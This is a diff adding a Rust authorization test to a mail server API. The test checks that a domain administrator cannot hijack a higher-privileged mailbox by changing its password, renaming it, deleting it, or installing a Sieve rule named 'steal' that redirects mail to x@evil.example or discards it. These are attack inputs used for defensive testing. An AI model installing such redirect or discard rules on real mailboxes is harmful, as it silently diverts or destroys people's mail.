@@ -431,6 +431,48 @@ async fn domain_admin_cannot_touch_another_domain() {
 }
 
 #[tokio::test]
+async fn domain_admin_cannot_take_over_a_mightier_mailbox_in_its_domain() {
+    let api = Api::start().await;
+    api.seed([
+        fixtures::domain("a.example"),
+        fixtures::domain("b.example"),
+        domain_admin_of("boss@a.example", "a.example"),
+        mailbox_with_roles("root@a.example", vec![Role::Admin]),
+        domain_admin_of("other@a.example", "b.example"),
+        fixtures::sieve("root@a.example", "main", "keep;"),
+    ])
+    .await;
+    let boss = api.mailbox_token("boss@a.example").await;
+    let before = api.everything().await;
+    for address in ["root@a.example", "other@a.example"] {
+        // Reading is fine: there is nothing secret in a mailbox's view.
+        let shown = api.get(&format!("/mailboxes/{address}")).token(&boss).send().await;
+        shown.expect(200);
+        let etag = shown.etag.clone().unwrap();
+        let mut same = shown.body.clone();
+        same["name"] = json!("pwned");
+        for call in [
+            api.put(&format!("/mailboxes/{address}/password")).json(json!({"password": "attacker's choice"})),
+            api.put(&format!("/mailboxes/{address}")).json(same),
+            api.delete(&format!("/mailboxes/{address}")),
+            api.post(&format!("/mailboxes/{address}/sieve"))
+                .json(json!({"name": "steal", "script": "redirect \"x@evil.example\";"})),
+        ] {
+            call.if_match(&etag).token(&boss).send().await.expect_error(403, "forbidden");
+        }
+    }
+    let script_etag = api.get("/mailboxes/root@a.example/sieve/main").token(&boss).send().await.etag.unwrap();
+    api.put("/mailboxes/root@a.example/sieve/main")
+        .json(json!({"script": "discard;"}))
+        .if_match(&script_etag)
+        .token(&boss)
+        .send()
+        .await
+        .expect_error(403, "forbidden");
+    assert_eq!(api.everything().await, before);
+}
+
+#[tokio::test]
 async fn user_sees_only_itself() {
     let api = Api::start().await;
     two_domains(&api).await;
